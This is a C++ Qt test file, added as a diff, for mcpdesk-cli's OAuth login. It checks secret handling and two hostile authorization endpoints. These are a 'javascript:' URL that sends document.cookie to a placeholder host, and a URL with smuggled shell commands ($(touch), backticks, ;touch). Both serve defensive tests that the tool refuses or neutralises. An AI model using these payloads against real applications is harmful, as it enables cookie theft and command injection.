@@ -1,0 +1,231 @@
+// Sign-in end to end with mcpdesk-cli against the SDK's OAuth example server
+// (401 → discovery → dynamic registration → PKCE → our loopback callback hit over
+// real HTTP → token → tools), tokens in the real keychain of the test session,
+// and nothing secret anywhere else. Also: authorization endpoints McpDesk must
+// refuse to open, and what is passed to the browser opener.
+#include "PeerProcess.h"
+
+#include <QDir>
+#include <QFile>
+#include <QNetworkAccessManager>
+#include <QNetworkReply>
+#include <QProcess>
+#include <QRegularExpression>
+#include <QSignalSpy>
+#include <QTemporaryDir>
+#include <QTest>
+#include <QUrlQuery>
+
+namespace {
+QByteArray readFile(const QString &path)
+{
+    QFile f(path);
+    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
+}
+
+// Plays the browser: GET the authorization URL without following redirects,
+// then GET the Location (our loopback callback). Returns the callback's status.
+int playBrowser(const QUrl &authUrl, QUrl *callback)
+{
+    QNetworkAccessManager nam;
+    QNetworkRequest req(authUrl);
+    req.setAttribute(QNetworkRequest::RedirectPolicyAttribute, QNetworkRequest::ManualRedirectPolicy);
+    QNetworkReply *r = nam.get(req);
+    QSignalSpy done(r, &QNetworkReply::finished);
+    done.wait(10000);
+    *callback = authUrl.resolved(QUrl::fromEncoded(r->rawHeader("Location")));
+    delete r;
+    QNetworkReply *c = nam.get(QNetworkRequest(*callback));
+    QSignalSpy cdone(c, &QNetworkReply::finished);
+    cdone.wait(10000);
+    const int status = c->attribute(QNetworkRequest::HttpStatusCodeAttribute).toInt();
+    delete c;
+    return status;
+}
+} // namespace
+
+class TestOAuthCli : public QObject
+{
+    Q_OBJECT
+
+    QTemporaryDir home;
+    QProcessEnvironment env;
+
+    struct Run
+    {
+        int code = -1;
+        QString out, err;
+    };
+    Run cli(const QStringList &args, const QProcessEnvironment &e)
+    {
+        QProcess p;
+        p.setProcessEnvironment(e);
+        p.start(QStringLiteral(MCPDESK_CLI), args);
+        Run r;
+        if (!p.waitForFinished(30000)) {
+            p.kill();
+            p.waitForFinished();
+        }
+        r.code = p.exitCode();
+        r.out = QString::fromUtf8(p.readAllStandardOutput());
+        r.err = QString::fromUtf8(p.readAllStandardError());
+        return r;
+    }
+
+private slots:
+    void initTestCase()
+    {
+        env = QProcessEnvironment::systemEnvironment();
+        env.insert(QStringLiteral("XDG_CONFIG_HOME"), home.filePath(QStringLiteral("config")));
+        // Debug logging on: the logs must stay clean of secrets even then.
+        env.insert(QStringLiteral("QT_LOGGING_RULES"), QStringLiteral("mcpdesk.*=true"));
+    }
+
+    void fullSignInWithTheSdkServer()
+    {
+        // The SDK example: its own authorization server, strict about the resource.
+        const quint16 mcpPort = PeerProcess::freePort();
+        const quint16 authPort = PeerProcess::freePort();
+        QProcess server;
+        QProcessEnvironment se = QProcessEnvironment::systemEnvironment();
+        se.insert(QStringLiteral("MCP_PORT"), QString::number(mcpPort));
+        se.insert(QStringLiteral("MCP_AUTH_PORT"), QString::number(authPort));
+        server.setProcessEnvironment(se);
+        server.start(PeerProcess::node(),
+                     {PeerProcess::peersDir() + QStringLiteral("/node_modules/@modelcontextprotocol/sdk/dist/esm/examples/server/simpleStreamableHttp.js"),
+                      QStringLiteral("--oauth"), QStringLiteral("--oauth-strict")});
+        QVERIFY(server.waitForStarted());
+        QVERIFY(PeerProcess::portOpen(mcpPort, 20000));
+        QVERIFY(PeerProcess::portOpen(authPort, 20000));
+        const QString url = QStringLiteral("http://localhost:%1/mcp").arg(mcpPort);
+
+        // Before signing in: exit 6 with a hint.
+        Run before = cli({QStringLiteral("tools"), url}, env);
+        QCOMPARE(before.code, 6);
+        QVERIFY2(before.err.contains(QStringLiteral("mcpdesk-cli login")), qPrintable(before.err));
+
+        // login --no-browser prints the address; this test is the browser.
+        QProcess login;
+        login.setProcessEnvironment(env);
+        login.start(QStringLiteral(MCPDESK_CLI), {QStringLiteral("login"), url, QStringLiteral("--no-browser")});
+        QVERIFY(login.waitForStarted());
+        QString loginErr;
+        QUrl authUrl;
+        QTRY_VERIFY_WITH_TIMEOUT(([&] {
+                                     loginErr += QString::fromUtf8(login.readAllStandardError());
+                                     const auto m = QRegularExpression(QStringLiteral("\\n  (http\\S+)\\n")).match(loginErr);
+                                     if (m.hasMatch())
+                                         authUrl = QUrl::fromEncoded(m.captured(1).toUtf8());
+                                     return authUrl.isValid();
+                                 }()),
+                                 20000);
+        QCOMPARE(authUrl.port(), int(authPort));
+        const QUrlQuery q(authUrl);
+        QCOMPARE(q.queryItemValue(QStringLiteral("code_challenge_method")), QStringLiteral("S256"));
+        QCOMPARE(q.queryItemValue(QStringLiteral("resource"), QUrl::FullyDecoded), url);
+        QVERIFY(!q.queryItemValue(QStringLiteral("state")).isEmpty());
+        QUrl callback;
+        QCOMPARE(playBrowser(authUrl, &callback), 200);
+        QCOMPARE(callback.host(), QStringLiteral("127.0.0.1")); // the loopback, over real HTTP
+        const QString code = QUrlQuery(callback).queryItemValue(QStringLiteral("code"));
+        QVERIFY(!code.isEmpty());
+        QVERIFY(login.waitForFinished(20000));
+        const QString loginOut = QString::fromUtf8(login.readAllStandardOutput());
+        loginErr += QString::fromUtf8(login.readAllStandardError());
+        QVERIFY2(login.exitCode() == 0, qPrintable(loginErr));
+        QVERIFY2(loginOut.startsWith(QStringLiteral("Signed in to ") + url), qPrintable(loginOut));
+
+        // Signed in: tools are listed with the stored token.
+        Run tools = cli({QStringLiteral("tools"), url}, env);
+        QVERIFY2(tools.code == 0, qPrintable(tools.err));
+        QVERIFY(tools.out.contains(QStringLiteral("greet\t")));
+        Run info = cli({QStringLiteral("token"), url}, env);
+        QCOMPARE(info.code, 0);
+        QVERIFY(info.out.contains(QStringLiteral("issuer: http://localhost:%1").arg(authPort)));
+        QVERIFY(info.out.contains(QStringLiteral("access token: ********")));
+        Run revealed = cli({QStringLiteral("token"), url, QStringLiteral("--reveal")}, env);
+        const QString token = revealed.out.section(QStringLiteral("access token: "), 1).trimmed();
+        QVERIFY(token.size() >= 16);
+
+        // No token, code or secret anywhere but the keychain: not in the files,
+        // not in the debug logs, not on stdout.
+        const QByteArray signins = readFile(home.filePath(QStringLiteral("config/McpDesk/signins.json")));
+        QVERIFY(signins.contains("hasRefreshToken"));
+        for (const QString &secret : {token, code}) {
+            QVERIFY2(!signins.contains(secret.toUtf8()), "secret in signins.json");
+            QVERIFY2(!loginErr.contains(secret) && !loginOut.contains(secret), "secret in login output");
+            QVERIFY2(!tools.err.contains(secret) && !tools.out.contains(secret), "secret in tools output");
+            QVERIFY2(!info.out.contains(secret), "secret without --reveal");
+        }
+        QVERIFY(!loginErr.contains(QStringLiteral("code_verifier")));
+        QVERIFY(!loginErr.contains(QStringLiteral("Bearer ")));
+        QVERIFY(loginErr.contains(QStringLiteral("mcpdesk.auth"))); // the debug log was really on
+        for (const QString &f : QDir(home.filePath(QStringLiteral("config/McpDesk"))).entryList(QDir::Files))
+            QVERIFY2(!readFile(home.filePath(QStringLiteral("config/McpDesk/") + f)).contains(token.toUtf8()), qPrintable(f));
+
+        // logout forgets it; the next call needs a sign-in again.
+        Run out = cli({QStringLiteral("logout"), url}, env);
+        QCOMPARE(out.code, 0);
+        QCOMPARE(cli({QStringLiteral("tools"), url}, env).code, 6);
+        QCOMPARE(cli({QStringLiteral("token"), url}, env).code, 6);
+        server.terminate();
+        server.waitForFinished(3000);
+    }
+
+    // An authorization endpoint that is not https (or http on loopback) is never opened.
+    void javascriptEndpointRefused()
+    {
+        PeerProcess fake;
+        QVERIFY(fake.startScript(QStringLiteral("fake-mcp-server.mjs"),
+                                 {QStringLiteral("--mode"), QStringLiteral("oauth-evil"), QStringLiteral("--auth-endpoint"),
+                                  QStringLiteral("javascript:fetch('http://x/'+document.cookie)")}));
+        QTemporaryDir bin;
+        const QString record = bin.filePath(QStringLiteral("opened.txt"));
+        writeFakeOpener(bin.path(), record);
+        QProcessEnvironment e = env;
+        e.insert(QStringLiteral("PATH"), bin.path() + QLatin1Char(':') + e.value(QStringLiteral("PATH")));
+        const Run r = cli({QStringLiteral("login"), fake.url().toString()}, e);
+        QCOMPARE(r.code, 6);
+        QVERIFY2(r.err.contains(QStringLiteral("will not open")), qPrintable(r.err));
+        QTest::qWait(300);
+        QVERIFY(!QFile::exists(record)); // the opener never ran
+    }
+
+    // Shell metacharacters in the address reach the opener as one inert argument.
+    void shellMetacharactersAreInert()
+    {
+        QTemporaryDir bin;
+        const QString marker = bin.filePath(QStringLiteral("pwned"));
+        PeerProcess fake;
+        QVERIFY(fake.startScript(QStringLiteral("fake-mcp-server.mjs"),
+                                 {QStringLiteral("--mode"), QStringLiteral("oauth-evil"), QStringLiteral("--auth-endpoint"),
+                                  QStringLiteral("http://127.0.0.1:9/authorize?a=$(touch %1)&b=`touch %1`;touch %1").arg(marker)}));
+        const QString record = bin.filePath(QStringLiteral("opened.txt"));
+        writeFakeOpener(bin.path(), record);
+        QProcessEnvironment e = env;
+        e.insert(QStringLiteral("PATH"), bin.path() + QLatin1Char(':') + e.value(QStringLiteral("PATH")));
+        QProcess login;
+        login.setProcessEnvironment(e);
+        login.start(QStringLiteral(MCPDESK_CLI), {QStringLiteral("login"), fake.url().toString(), QStringLiteral("--timeout"), QStringLiteral("3")});
+        QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(record), 10000);
+        login.kill();
+        login.waitForFinished();
+        const QList<QByteArray> args = readFile(record).split('\n');
+        QCOMPARE(args.value(0), QByteArray("argc=1")); // exactly one argument
+        QVERIFY(args.value(1).startsWith("http://127.0.0.1:9/authorize?"));
+        QVERIFY(!QFile::exists(marker)); // nothing was executed
+    }
+
+private:
+    static void writeFakeOpener(const QString &dir, const QString &record)
+    {
+        QFile f(dir + QStringLiteral("/xdg-open"));
+        QVERIFY(f.open(QIODevice::WriteOnly));
+        f.write(QStringLiteral("#!/bin/sh\nprintf 'argc=%s\\n%s\\n' \"$#\" \"$1\" > '%1'\n").arg(record).toUtf8());
+        f.close();
+        f.setPermissions(QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
+    }
+};
+
+QTEST_GUILESS_MAIN(TestOAuthCli)
+#include "tst_oauth_cli.moc"
